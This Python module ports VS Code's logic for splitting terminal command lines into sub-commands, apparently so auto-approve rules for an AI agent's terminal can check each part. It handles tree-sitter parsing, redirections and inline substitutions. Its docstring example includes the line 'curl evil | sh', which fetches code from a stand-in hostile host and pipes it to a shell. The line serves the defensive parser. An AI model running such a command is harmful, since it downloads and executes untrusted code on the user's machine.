"""How VS Code cuts a terminal command line into the sub-commands its rules must all match.

Two ways, both VS Code's:

- :func:`extract_sub_commands`: what ``CommandLineAutoApproveAnalyzer`` does today
  (``treeSitterCommandParser.ts`` ``extractSubCommands``): the tree-sitter query
  ``(command) @command`` over the bash grammar, every ``command`` node's text in document
  order, so ``echo $(rm x)`` yields ``echo $(rm x)`` and ``rm x``. Redirection targets are not
  commands; a leading ``FOO=1`` stays part of its command (and the auto-approver refuses it).
- :func:`split_command_line_into_sub_commands` and :func:`extract_inline_sub_commands`: the
  string splitter of ``subCommands.ts`` (microsoft/vscode at 3bd5689) that came before it,
  ported with its quirks (it splits at operators inside quotes, and keeps the redirection
  targets as sub-commands), for its own test suite.

>>> extract_sub_commands("npm test && curl evil | sh")
['npm test', 'curl evil', 'sh']
>>> split_command_line_into_sub_commands("echo test > out.txt && ls", "bash")
['echo test', 'out.txt', 'ls']
"""

from __future__ import annotations

from functools import lru_cache
from typing import TYPE_CHECKING, Literal

from .autoapprove import is_powershell

if TYPE_CHECKING:
    from tree_sitter import Parser

__all__ = ["extract_inline_sub_commands", "extract_sub_commands",
           "split_command_line_into_sub_commands"]


def _numbers(start: int, end: int) -> list[str]:
    return [str(n) for n in range(start, end + 1)]


def _by_length_desc(items: list[str]) -> list[str]:
    return sorted(items, key=len, reverse=True)  # stable, as Array.prototype.sort is


def _posix_reset_chars(extra: list[str]) -> list[str]:
    return _by_length_desc([
        *[f"{n}<<<" for n in [*_numbers(1, 9), ""]],  # here strings
        *[f"{n}>&{m}" for n in [*_numbers(1, 9), ""] for m in _numbers(1, 9)],
        *[f"{n}<>" for n in [*_numbers(1, 9), ""]],
        *[f"{n}>>" for n in [*_numbers(1, 9), "&", ""]],
        *[f"{n}>" for n in [*_numbers(1, 9), "&", ""]],
        *extra,
    ])


#: ``shellTypeResetChars`` of subCommands.ts: the strings a command line is split at.
_RESET_CHARS: dict[str, list[str]] = {
    "sh": _posix_reset_chars(["0<", "||", "&&", "|&", "<<", "&", ";", "{", ">", "<", "|"]),
    "zsh": _posix_reset_chars(["<(", "||", ">|", ">!", "&&", "|&", "&", ";", "{", "<(", "<",
                               "|"]),
    "pwsh": _by_length_desc([
        *[f"{n}>&{m}" for n in [*_numbers(1, 6), "*", ""] for m in _numbers(1, 6)],
        *[f"{n}>>" for n in [*_numbers(1, 6), "*", ""]],
        *[f"{n}>" for n in [*_numbers(1, 6), "*", ""]],
        "&&", "<", "|", ";", "!", "&",
    ]),
}


def _shell_type(shell: str, os: str) -> Literal["sh", "zsh", "pwsh"]:
    if is_powershell(shell, os):
        return "pwsh"
    return "zsh" if shell.removesuffix(".exe") == "zsh" else "sh"


def split_command_line_into_sub_commands(command_line: str, shell: str,
                                         os: str = "linux") -> list[str]:
    """``splitCommandLineIntoSubCommands`` (subCommands.ts): split at every reset string."""
    sub_commands = [command_line]
    for chars in _RESET_CHARS[_shell_type(shell, os)]:
        i = 0
        while i < len(sub_commands):
            if chars in sub_commands[i]:
                sub_commands[i:i + 1] = [part.strip() for part in sub_commands[i].split(chars)]
                continue  # ``i--`` then ``i++``: look at the first piece again
            i += 1
    return [c for c in sub_commands if c]


def _with_prefix(text: str, prefix: str, shell: str, os: str) -> list[str]:
    """``extractWithPrefix``: ``<prefix>(...)`` substitutions, parentheses balanced."""
    results: list[str] = []
    i = 0
    while i < len(text):
        start = text.find(prefix, i)
        if start == -1:
            break
        content = start + len(prefix)
        if content >= len(text) or text[content] != "(":
            i = start + 1
            continue
        depth, j = 1, content + 1
        while j < len(text) and depth > 0:
            depth += {"(": 1, ")": -1}.get(text[j], 0)
            j += 1
        inner = text[content + 1:j - 1].strip() if depth == 0 else ""
        if inner:
            results.append(inner)
            results.extend(extract_inline_sub_commands(inner, shell, os))
        i = start + 1
    return results


def _backticks(text: str, shell: str, os: str) -> list[str]:
    """``extractBackticks``: legacy POSIX `command` substitutions."""
    results: list[str] = []
    i = 0
    while i < len(text):
        start = text.find("`", i)
        end = text.find("`", start + 1) if start != -1 else -1
        if end == -1:
            break
        inner = text[start + 1:end].strip()
        if inner:
            results.append(inner)
            results.extend(extract_inline_sub_commands(inner, shell, os))
        i = end + 1
    return results


def extract_inline_sub_commands(command_line: str, shell: str, os: str = "linux") -> set[str]:
    """``extractInlineSubCommands``: the commands inside ``$(...)``, ``<(...)``, ``>(...)`` and
    backticks (PowerShell: ``$(...)``, ``@(...)``, ``&(...)``), nested ones too."""
    found: list[str] = []
    if _shell_type(shell, os) == "pwsh":
        for prefix in ("$", "@", "&"):
            found += _with_prefix(command_line, prefix, shell, os)
    else:
        for prefix in ("$", "<", ">"):
            found += _with_prefix(command_line, prefix, shell, os)
        found += _backticks(command_line, shell, os)
    return set(found)


@lru_cache(maxsize=1)
def _parser() -> Parser:
    """The tree-sitter bash parser (imported on first use: ``import toolkit`` stays cheap)."""
    import tree_sitter
    import tree_sitter_bash

    return tree_sitter.Parser(tree_sitter.Language(tree_sitter_bash.language()))


@lru_cache(maxsize=4096)
def _extract(command_line: str) -> tuple[str, ...]:
    source = command_line.encode()
    tree = _parser().parse(source)
    found: list[str] = []
    stack = [tree.root_node]
    while stack:  # pre-order, children left to right: the order of the query's captures
        node = stack.pop()
        if node.type == "command":
            found.append(source[node.start_byte:node.end_byte].decode(errors="replace"))
        stack.extend(reversed(node.children))
    return tuple(found)


def extract_sub_commands(command_line: str) -> list[str]:
    """``extractSubCommands(bash, commandLine)``: the text of every ``command`` node."""
    return list(_extract(command_line))
